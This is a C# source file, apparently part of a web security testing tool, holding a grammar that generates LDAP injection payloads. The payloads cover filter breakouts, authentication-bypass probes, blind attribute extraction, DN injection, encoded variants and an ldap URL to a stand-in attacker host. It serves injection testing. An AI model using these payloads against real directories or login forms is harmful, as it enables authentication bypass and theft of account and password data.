namespace Weir.Http.Corpus.Attacks;

/// <summary>Filter, name and URL injection for LDAP directories (RFC 4515, 4514, 4516).</summary>
internal static class Ldapi
{
    public const string Text = """"
        §attack
        8× «breakout»
        4× «probe»
        3× «wholefilter»
        2× «blind»
        «dn»
        «carrier»
        2× «encoded»

        §attr
        4× «cn¦uid¦sn¦mail¦objectClass¦userPassword¦sAMAccountName¦memberOf»
        «objectclass¦givenName¦description¦telephoneNumber¦homeDirectory¦ou¦o¦dc¦member¦uidNumber¦gidNumber¦department¦title¦userAccountControl¦pwdLastSet¦lockoutTime¦displayName¦distinguishedName¦employeeID¦manager¦street¦l¦c¦st¦postalCode¦krbPrincipalName¦servicePrincipalName¦authorizedService¦nTSecurityDescriptor¦msDS-KeyCredentialLink¦unicodePwd¦loginShell¦accountstatus¦shadowLastChange¦commonName¦surname¦name¦password¦user¦userid»
        §attrval
        6× *
        2× «word»
        2× «letter»*
        «word»*
        *«word»*
        «num»
        «person¦user¦users¦inetOrgPerson¦groupOfNames¦top¦organizationalPerson¦posixAccount¦computer»
        *)
        §rel
        10× =
        >=
        <=
        ~=
        :=
        :1.2.840.113556.1.4.803:=
        :caseExactMatch:=
        §term
        6× («attr»«rel»«attrval»)
        (!(«attr»=«attrval»))
        (|(«attr»=«attrval»)(«attr»=«attrval»))
        (&(«attr»=«attrval»)(«attr»=«attrval»))
        («attr»=*)
        §openterm
        6× («attr»«rel»«attrval»
        2× (|(«attr»=«attrval»
        2× (&(«attr»=«attrval»
        (!(«attr»=«attrval»
        (|(«attr»=«attrval»)(«attr»=«attrval»
        (&
        (|
        §lead
        5× *
        4× «word»
        3× «word»*
        2×
        admin
        *«word»
        «num»
        «letter»
        §breakout
        6× «lead»)«openterm»
        5× «lead»)«term»«openterm»
        4× «lead»))«openterm»
        3× «lead»)«term»
        3× «lead»)(«logical»«openterm»
        3× «lead»))(|«openterm»
        3× «lead»)«openterm»«end»
        2× «lead»))%00
        2× «lead»)«term»)«end»
        2× «lead»)«term»)(«logical»«openterm»«end»
        «lead»)))«term»«end»
        «lead»)(«logical»(«attr»=«attrval»))
        «lead»)«term»«term»«openterm»
        «lead») («attr»=«attrval»
        «lead»«¦*»)«term» ))(|(«attr»=«attrval»
        §logical
        3× |
        3× &
        !
        §end
        3× %00
        2× ))%00
        )%00
        ␀
        )␀
        ))
        )
        #
        //
        §probe
        3× *)(&
        3× *)(|
        2× «word»*)(«¦|¦&¦!»«¦(¦((»
        2× *))«¦(|¦%00¦*¦)»
        2× «word»)(«|¦&¦!»
        2× «*¦*)¦*(¦(*)¦)(¦*()¦(|¦*|¦*&¦(&)¦*(|(¦*()|&'¦*()|%26'¦)(|¦!(¦(!¦|(¦&(¦*)(*¦*)*¦((¦))¦)))»«(«attr»=*¦)(«attr»=*¦(«attr»=«word»»«)*¦¦))¦)»
        «word»*)(«attr»=*))(|(«attr»=*
        «*/*¦*|%26¦*)((|¦*))((|¦%2a%28¦%2a%29%28¦*\28¦\2a¦\2a\29\28¦(%7c¦%28%7c»«¦«attr»=*¦(«attr»=*)»
        «word»)(!(&(«¦1=0¦|»
        «word»)(!(&(|
        «lead»)(«attr»=*
        *)«attr»=«attrval»
        «word»)(«attr»=))(|(«attr»=«attrval»
        )(«attr»=«attrval»
        (|(«attr»=*)(«attr»=*
        *(|(«attr»=«attrval»))
        *(|(«attr»=*))
        «attr»=*
        («attr»=«attrval»)«|¦&»(«attr»=«attrval»)
        §wholefilter
        3× (&(«attr»=«lead»)«openterm»)(«attr»=«attrval»))
        2× (|(«attr»=*)(«attr»=*))
        2× (&(«attr»=*)(«attr»=*))
        (&(«attr»=«word»*)(«attr»=*))(|(«attr»=*)(«attr»=*))
        (&(objectClass=*)(«attr»=«attrval»))
        (|«term*2-5»)
        (&«term»«term»)
        (&«term»(|«term»«term»))
        (!(«attr»=«attrval»))
        (&(«attr»=«word»)(&))(«attr»=«word»))
        (userAccountControl:1.2.840.113556.1.4.803:=«2¦32¦512¦8192¦65536¦4194304¦524288»)
        (&(«objectCategory=person¦objectClass=user»)(«attr»=*)(!(«attr»=«word»)))
        (&(«attr»=*«word»*)(memberOf:1.2.840.113556.1.4.1941:=cn=«word»,dc=«word»,dc=«word»))
        §blind
        3× «word»)(«attr»=«letter»*
        2× «word»)(«attr»=«letter*1-6»*))%00
        «word»)(«attr»=«rand»*)(«attr»=*
        *)(«attr»=«letter»*)(&
        «word»*)(«attr»:caseExactMatch:=«letter»*
        *)(«attr»>=«letter»
        (&(«attr»=«word»)(«attr»=«letter»*))
        (&(«attr»=«word»)(«attr»<=«letter*1-3»))
        «word»)(«attr»:2.5.13.18:=\x«hexdigit*2»\x«hexdigit*2»
        «word»)(«attr»:2.5.13.18:=\«hexdigit*2»«¦\«hexdigit*2»»
        *)(objectClass=«person¦user¦inetOrgPerson¦«rand»»))(&(«attr»=void
        void)(objectClass=void))(&(objectClass=void
        «word»)(«attr»=«rand»))(&(«attr»=void
        §dn
        «word»,«sp»«ou¦dc¦cn¦o»=*
        cn=«word»,dc=«word»,dc=«word»)«openterm»
        «word»«\,¦\2c¦%2c»ou=*«¦)(«attr»=*»
        «word»,dc=*)(«attr»=«attrval»
        *,ou=«word»)(«attr»=*)
        cn=*)(|(«attr»=*
        §sp
        2×
        ␠
        §carrier
        {"«param»":"«core→json»"}
        «param»=«core»
        «param»=«core»&«param»=«word»
        «username¦user¦login¦uid»=«core»&«password¦pass¦pwd»=«*¦«word»¦»
        ldap«¦s»://««privateip»¦127.0.0.1»«¦:389»/«dc=«word»,dc=com¦ou=*»?«attr»«¦,«attr»»?«sub¦one¦base»?(«attr»=«attrval»)
        ldap«¦s»://«evilhost»/«dc=«word»»??sub?(«attr»=*)
        «core»@«word».com
        "«core»"
        §core
        4× «breakout»
        2× «probe»
        «blind»
        §encoded
        2× «core→url»
        «core→urllower»
        «core→urlsome»
        «core→urltwice»
        «core→filterhex»
        \2a\29\28«attr»=\2a
        «word»\29\28«attr»=«word»\2a
        %2A%29%28«attr»%3D%2A«¦%29%29¦%29%00»
        «breakout→percentu»
        """";
}
